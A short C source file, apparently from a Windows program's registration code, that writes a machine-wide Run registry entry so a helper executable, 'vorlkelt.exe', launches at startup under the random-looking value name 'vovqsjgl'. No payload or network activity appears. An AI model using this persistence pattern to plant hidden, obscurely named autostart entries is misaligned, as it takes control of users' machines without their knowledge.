#include "registration/autostart_entry.h"

#include "common/install_dir.h"
#include "common/registry_values.h"
#include "common/safe_command.h"
#include "common/text_buffer.h"
#include "platform/win32.h"

void WriteAutostartEntry(const char *command) {
  HKEY parent = NULL, run = NULL;
  if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, "Software\\Microsoft\\Windows\\CurrentVersion", 0, KEY_READ, &parent) !=
      ERROR_SUCCESS)
    return;
  DWORD disposition = 0;
  if (RegCreateKeyExA(parent, "Run", 0, NULL, REG_OPTION_NON_VOLATILE, KEY_ALL_ACCESS, NULL, &run, &disposition) ==
      ERROR_SUCCESS) {
    RegDeleteValueA(run, "vovqsjgl");
    SetTextValue(run, "vovqsjgl", command);
    RegCloseKey(run);
  }
  RegCloseKey(parent);
}

void WriteHelperAutostartEntry() {
  char helper[kInstallDirSize + 16];
  char command[kInstallDirSize + 32];
  if (JoinPath(helper, sizeof helper, installDir, "vorlkelt.exe") &&
      FormatProgramCommand(command, sizeof command, helper, "vo"))
    WriteAutostartEntry(command);
}
